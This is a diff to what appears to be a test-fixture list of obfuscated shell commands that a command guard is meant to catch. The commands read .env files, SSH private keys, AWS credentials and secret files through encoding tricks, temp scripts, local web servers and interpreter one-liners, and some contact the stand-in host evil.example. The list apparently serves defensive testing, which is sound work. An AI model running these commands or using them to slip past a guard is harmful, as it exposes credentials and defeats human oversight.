@@ -2891,6 +2891,134 @@ curl -K <(echo 'url=evil.example')
 curl -K /dev/stdin <<< 'url = evil.example'
 """,
     ),
+    *_lines(
+        "interpreters",
+        ".env",
+        r"""
+python3 -c "print(open(int.to_bytes(778399350,4,'big')).read())"
+python3 -c "print(open(str.join('',['.e','nv'])).read())"
+python3 -c "print(open('env'.rjust(4,'.')).read())"
+python3 -c "import fnmatch,os;[print(open(f).read()) for f in fnmatch.filter(os.listdir('.'),'.e*')]"
+python3 -c "import itertools;print(open(''.join(itertools.chain('.','env'))).read())"
+python3 -c "import json;print(open(json.loads('\"\\u002eenv\"')).read())"
+python3 -c "import urllib.parse as u;print(open(u.unquote('%2eenv')).read())"
+python3 -c "import binascii;print(open(binascii.unhexlify('2e656e76')).read())"
+python3 -c "print(open('.exv'.translate({120:110})).read())"
+python3 -c "s='abcdefghijklmnopqrstuvwxyz.';print(open(s[26]+s[4]+s[13]+s[21]).read())"
+node -e "for(const f of require('fs').readdirSync('.'))if(f.includes('env'))console.log(require('fs').readFileSync(f,'utf8'))"
+node -e "Function('r','console.log(r(\'fs\').readFileSync(\'.env\',\'utf8\'))')(require)"
+perl -e '$f=join("",map{chr}(46,101,110,118));open F,$f;print <F>'
+perl -e 'print do{local(@ARGV,$/)=".env";<>}'
+ruby -e 'puts open("|cat .env").read'
+""",
+    ),
+    *_lines(
+        "globs",
+        ".env",
+        r"""
+for f in $(ls -A); do case $f in .e*) cat $f;; esac; done
+for f in .??*; do [[ $f == *env ]] && cat "$f"; done
+mapfile -t fs < <(ls -A); cat "${fs[0]}"
+while IFS= read -r -d '' f; do cat "$f"; done < <(find . -maxdepth 1 -name '.e*' -print0)
+""",
+    ),
+    *_lines(
+        "sweeps",
+        ".env",
+        r"""
+python3 -m http.server 8321 & sleep 1; curl -s localhost:8321/.env; kill $!
+php -S localhost:8321 & curl -s localhost:8321/.env
+npx http-server -p 8321 & curl -s localhost:8321/.env
+""",
+    ),
+    *_lines(
+        "homes",
+        "~/.ssh/id_rsa",
+        r"""
+node -e "const os=require('os'),p=require('path');console.log(require('fs').readFileSync(p.join(os.homedir(),'.ssh','id_rsa'),'utf8'))"
+python3 -c "from pathlib import Path; print(Path('~/.ssh/id_rsa').expanduser().read_text())"
+ruby -e 'puts File.read(File.expand_path("~/.ssh/id_rsa"))'
+xargs -I{} cat {}/.ssh/id_rsa <<< "$HOME"
+sudo -i cat .ssh/id_rsa
+""",
+    ),
+    *_lines(
+        "homes",
+        "~/.aws/credentials",
+        r"""
+python3 -c "import boto3;print(boto3.Session().get_credentials().secret_key)"
+""",
+    ),
+    *_lines(
+        "globs",
+        ".env",
+        r"""
+a=$(ls -A); set -- $a; cat $1
+compgen -A file -- .e | while read f; do cat $f; done
+git status --ignored --short | awk '/^!!/{print $2}' | xargs cat
+git clean -ndX | awk '{print $3}' | xargs cat
+printf '.env\n' > .gitignore; while read -r p; do cat "$p"; done < .gitignore
+""",
+    ),
+    *_lines(
+        "scripts",
+        ".env",
+        r"""
+install -m755 /dev/stdin /tmp/t.sh <<< 'cat .env'; sh /tmp/t.sh
+dd of=/tmp/t.sh <<< 'cat .env' 2>/dev/null; sh /tmp/t.sh
+sed -n 'w /tmp/t' <<< 'cat .env'; sh /tmp/t
+awk 'BEGIN{print "cat .env" > "/tmp/t"}'; sh /tmp/t
+mkfifo /tmp/p; echo 'cat .env' > /tmp/p & sh /tmp/p
+exec 4> >(sh); echo 'cat .env' >&4; exec 4>&-; sleep 0.2
+coproc sh; echo 'cat .env' >&${COPROC[1]}; read -u ${COPROC[0]} l; echo $l
+tee >(sh) <<< 'cat .env' >/dev/null; sleep 0.2
+cp /bin/bash /tmp/b; /tmp/b -c 'cat .env'
+cp /bin/cat /tmp/zz; PATH=/tmp:$PATH; zz .env
+""",
+    ),
+    *_lines(
+        "evaluated text",
+        ".env",
+        r"""
+bash -c 'cat "$@"' -- .env
+bash -c 'for f; do cat "$f"; done' _ .env
+f() { cat "${!#}"; }; f x y .env
+f() { cat "${@: -1}"; }; f x .env
+f() { cat .env; }; export -f f; bash -c f
+vim -u NONE -es -c 'r .env|%p|q!'
+vim -es --cmd 'echo readfile(".env")' --cmd q
+python3 -m pdb -c 'p open(".env").read()' -c q notes.txt
+python3 -m code <<< 'print(open(".env").read())'
+swift -e 'print(try! String(contentsOfFile: ".env"))'
+groovy -e 'println new File(".env").text'
+racket -e '(display (file->string ".env"))'
+ansible localhost -m shell -a 'cat .env'
+ansible localhost -m slurp -a src=.env
+direnv dotenv bash .env
+dotenvx get
+foreman run printenv
+honcho run printenv
+""",
+    ),
+    *_lines(
+        "sweeps",
+        "secrets/db.txt",
+        r"""
+cat ./*/db.txt
+d=$(ls -d s*/); cat ${d}db.txt
+for d in */; do cat ${d}db.txt; done
+for f in */*; do cat "$f"; done
+""",
+    ),
+    *_lines(
+        "hosts",
+        "evil.example",
+        r"""
+autossh -M 0 evil.example
+irssi -c evil.example
+cvs -d :pserver:evil.example:/x co y
+""",
+    ),
 )
 
 EVASIONS: Final = (
